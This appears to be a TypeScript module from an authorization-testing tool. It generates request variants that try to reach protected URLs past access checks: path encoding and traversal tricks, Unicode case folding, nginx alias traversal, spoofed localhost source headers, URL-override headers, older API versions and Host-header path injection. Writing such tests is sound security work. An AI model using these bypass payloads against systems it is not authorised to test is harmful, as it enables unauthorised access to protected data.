import { nextjsSpellings } from './_nextjsSpellings.ts'
import { type SpelledRequest, type SpellingFacts, type UrlSpelling, withPath } from './_spelling.ts'

/** Lists the spellings, the likeliest first. Sources: OWASP WSTG-ATHZ-02; CVE records that the rows name. */
export const urlSpellings: readonly UrlSpelling[] = [
  ...nextjsSpellings,
  byPath('another letter case', swapCase),
  byPath('a trailing slash', (path) => (path.endsWith('/') ? path.slice(0, -1) : `${path}/`)),
  byPath('an encoded letter', encodeLetter),
  byPath('a double slash in front', (path) => `/${path}`, ['GHSA-92pp-h63x-v22m']),
  byPath('an encoded slash', (path) => replaceLastSlash(path, '%2f'), ['CVE-2026-29087']),
  byPath('a double slash inside', (path) => replaceLastSlash(path, '//')),
  byPath('a path parameter', (path) => `${path};x=1`),
  byPath('a path parameter in front', (path) => `/;x=1${path}`),
  asWritten('a dot segment', (path) => `/.${path}`),
  asWritten('an encoded dot segment', (path) => `/%2e${path}`),
  asWritten('a folder and its parent', (path) => `/x/..${path}`),
  byPath('an encoded slash after a dot', (path) => `/.%2f${path.slice(1)}`),
  byPath('an encoded folder and its parent', (path) => `/x%2f..%2f${path.slice(1)}`),
  byPath('a trailing dot', (path) => `${path}.`),
  byPath('a trailing encoded slash', (path) => `${path}%2f`),
  byPath('a null byte', (path) => `${path}%00`),
  byPath('an extension', (path) => `${path}.json`),
  byPath('a Unicode letter that folds to another', foldLetter),
  { name: 'a parent folder after a path parameter', family: 'path', spell: behindPublicFolder },
  ...[0, 1, 2].map(
    (index): UrlSpelling => ({
      name: 'a folder of files with two dots',
      family: 'alias',
      spell: (url, { fileFolders }) => throughFolder(url, fileFolders[index]),
    }),
  ),
  { name: 'another method', family: 'method', spell: ({ href }) => ({ url: href, method: 'PROPFIND' }) },
  { name: 'an IP address of the own machine in headers', family: 'source', spell: fromOwnMachine },
  ...[1, 2].map(olderVersion),
  { name: 'the API without a version', family: 'version', spell: withoutVersion },
  { name: 'the first version of the API', family: 'version', spell: inFirstVersion },
  byHeader('X-Original-URL'),
  byHeader('X-Rewrite-URL'),
  ...[0, 1].flatMap((index): readonly UrlSpelling[] => [
    throughHost('Host', index, ['CVE-2026-48710', 'CVE-2026-49468']),
    throughHost('X-Forwarded-Host', index),
  ]),
]

function byPath(
  name: string,
  change: (path: string) => string | null,
  known: readonly string[] = [],
): UrlSpelling {
  return { name, family: 'path', known, spell: (url) => withPath(url, change(url.pathname)) }
}

function asWritten(name: string, change: (path: string) => string): UrlSpelling {
  return {
    name,
    family: 'path',
    spell: ({ origin, pathname, search }) => ({
      url: `${origin}${change(pathname)}${search}`,
      isPathAsIs: true,
    }),
  }
}

function swapCase(path: string): string | null {
  const index = path.search(/[a-z]/i)
  if (index < 0) return null
  const letter = path.charAt(index)
  const swapped = letter === letter.toLowerCase() ? letter.toUpperCase() : letter.toLowerCase()
  return path.slice(0, index) + swapped + path.slice(index + 1)
}

function encodeLetter(path: string): string | null {
  const index = path.search(/[a-z]/i)
  if (index < 0) return null
  return `${path.slice(0, index)}%${path.charCodeAt(index).toString(16)}${path.slice(index + 1)}`
}

function replaceLastSlash(path: string, by: string): string | null {
  const index = path.lastIndexOf('/', path.length - 2)
  return index > 0 ? path.slice(0, index) + by + path.slice(index + 1) : null
}

/** The long s and the Kelvin sign become ASCII letters in case-insensitive comparison. Source: Unicode CaseFolding. */
function foldLetter(path: string): string | null {
  const folded = path.replace(/[sk]/i, (letter) => (/s/i.test(letter) ? '%C5%BF' : '%E2%84%AA'))
  return folded === path ? null : folded
}

function behindPublicFolder(url: URL, { publicPaths }: SpellingFacts): SpelledRequest | null {
  const [first] = publicPaths.filter((path) => path !== '/')
  return first === undefined ? null : withPath(url, `${first}/..;${url.pathname}`)
}

/** Reaches the parent of a folder that nginx serves by `alias` without a slash. */
function throughFolder(url: URL, folder: string | undefined): SpelledRequest | null {
  return folder === undefined || url.pathname.startsWith(`/${folder}/`)
    ? null
    : withPath(url, `/${folder}..${url.pathname}`)
}

const versionSegment = /\/v(\d{1,2})(?=\/)/

/** Old versions often stay deployed without the checks of the new one. Source: OWASP API9:2023. */
function olderVersion(steps: number): UrlSpelling {
  return {
    name: 'an older version of the API',
    family: 'version',
    spell(url) {
      const version = Number(versionSegment.exec(url.pathname)?.[1] ?? 0) - steps
      return version < 1 ? null : withPath(url, url.pathname.replace(versionSegment, `/v${version}`))
    },
  }
}

function withoutVersion(url: URL): SpelledRequest | null {
  return withPath(url, url.pathname.replace(versionSegment, ''))
}

function inFirstVersion(url: URL): SpelledRequest | null {
  return versionSegment.test(url.pathname)
    ? null
    : withPath(url, url.pathname.replace(/^\/api(?=\/)/, '/api/v1'))
}

function byHeader(header: string): UrlSpelling {
  return {
    name: `the header ${header}`,
    family: 'header',
    spell: (url) => ({ url: `${url.origin}/`, headers: { [header]: url.pathname + url.search } }),
  }
}

const sourceHeaders = ['X-Forwarded-For', 'X-Real-IP', 'X-Client-IP', 'True-Client-IP', 'CF-Connecting-IP']

/** Filters by IP address often read it from the first header that a client sends. */
function fromOwnMachine({ href }: URL): SpelledRequest {
  return { url: href, headers: Object.fromEntries(sourceHeaders.map((name) => [name, '127.0.0.1'])) }
}

/** A server that builds its URL from this header takes the path for a query. */
function throughHost(header: string, index: number, known: readonly string[] = []): UrlSpelling {
  return {
    name: `a path in the header ${header}`,
    family: 'host',
    known,
    spell(url, { publicPaths }) {
      const path = publicPaths[index]
      return path === undefined ? null : { url: url.href, headers: { [header]: `${url.host}${path}?x=` } }
    },
  }
}
